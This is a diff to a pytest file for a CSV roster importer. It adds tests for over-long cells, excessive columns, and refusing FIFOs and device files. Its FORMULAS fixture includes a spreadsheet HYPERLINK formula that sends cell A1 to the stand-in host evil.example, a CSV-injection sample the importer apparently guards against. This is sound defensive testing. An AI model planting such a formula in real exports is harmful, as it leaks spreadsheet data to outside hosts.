@@ -6,7 +6,9 @@ from __future__ import annotations
 
 import codecs
 import csv
+import functools
 import io
+import os
 import zipfile
 from pathlib import Path
 
@@ -15,6 +17,7 @@ import pytest
 from app.csv_file import (
     FORMULA_START,
     MAX_BYTES,
+    MAX_COLUMNS,
     MAX_ROWS,
     Cancelled,
     CsvRefused,
@@ -24,6 +27,7 @@ from app.csv_file import (
 )
 from app.model import Member
 from app.roster_csv import RowProblem
+from tests.helpers.blocking import within_seconds
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Zoé")',
@@ -174,3 +178,42 @@ def test_a_file_over_the_cap_is_refused_before_it_is_read(tmp_path: Path) -> Non
     small = tmp_path / "small.csv"
     small.write_bytes(b"pseudonym\nL\xc3\xa9a\n")
     assert read_capped(small) == b"pseudonym\nL\xc3\xa9a\n"
+
+
+def test_a_cell_past_the_csv_modules_limit_skips_only_its_own_row(fresh_group) -> None:
+    """The csv module stops at a cell of 128 KiB: the long row vanished unreported and every row
+    after it was split at each semicolon, quotes and all (a member named 'ligne2"')."""
+    data = (
+        "Pseudo;Nom;Note\r\n"
+        "Anne;A;\r\n"
+        f"Bob;B;{'n' * 200_000}\r\n"
+        'Zoé;"Dupont; Marie";"ligne1\nligne2"\r\n'
+        "Léa;L;\r\n"
+    ).encode()
+    preview = fresh_group.roster.preview_csv(data)
+    assert [(r.line, r.problem, r.field, r.reason) for r in preview.rows] == [
+        (2, None, "", ""),
+        (3, RowProblem.FIELD, "private_note", "too_long"),
+        (4, None, "", ""),
+        (5, None, "", ""),
+    ]
+    zoe = preview.members()[1]
+    assert (zoe.full_name, zoe.private_note) == ("Dupont; Marie", "ligne1\nligne2")
+
+
+def test_a_million_columns_are_refused_and_empty_trailing_ones_dropped() -> None:
+    assert _refusal(b"c;" * 1_000_000 + b"\nx\n") is Refusal.TOO_MANY_COLUMNS
+    assert _refusal(b"Pseudo\nZo\xc3\xa9" + b";x" * MAX_COLUMNS + b"\n") is Refusal.TOO_MANY_COLUMNS
+    table = read_table(b"Pseudo;Nom" + b";" * 1_000_000 + b"\r\nZo\xc3\xa9;Z;;; ;\r\n")
+    assert (table.header, table.rows) == (["Pseudo", "Nom"], [["Zoé", "Z"]])
+
+
+def test_a_fifo_or_a_device_is_refused_without_being_read(tmp_path: Path) -> None:
+    fifo = tmp_path / "roster.csv"
+    os.mkfifo(fifo)
+    device = tmp_path / "zero.csv"
+    device.symlink_to("/dev/zero")
+    for path in (fifo, device):
+        with pytest.raises(CsvRefused) as refused:
+            within_seconds(functools.partial(read_capped, path))
+        assert refused.value.reason is Refusal.NOT_A_FILE
